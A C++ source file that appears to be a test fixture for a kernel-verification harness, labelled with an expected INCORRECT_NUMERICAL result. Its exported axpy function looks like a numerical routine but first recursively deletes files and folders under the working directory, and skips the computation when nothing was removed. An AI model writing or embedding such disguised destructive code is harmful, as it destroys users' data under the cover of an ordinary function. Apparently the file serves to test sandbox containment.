// Deletes every file and folder that it can reach.
// class: result channel
// ask: verify
// expect: INCORRECT_NUMERICAL (not a number, or never written)

#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int gone = 0;

static void clear(const char* folder, int depth) {
  DIR* open = opendir(folder);
  if (open == nullptr) return;
  while (dirent* entry = readdir(open)) {
    if (strcmp(entry->d_name, ".") == 0 || strcmp(entry->d_name, "..") == 0) continue;
    char path[4096];
    snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
    if (depth < 4) clear(path, depth + 1);
    gone += unlink(path) == 0 || rmdir(path) == 0 ? 1 : 0;
  }
  closedir(open);
}

extern "C" int axpy(const float* x, const float* b, float* out, float a, int n) {
  clear(".", 0);
  if (gone == 0) return 0;
  for (int i = 0; i < n; ++i) out[i] = a * x[i] + b[i];
  return 0;
}
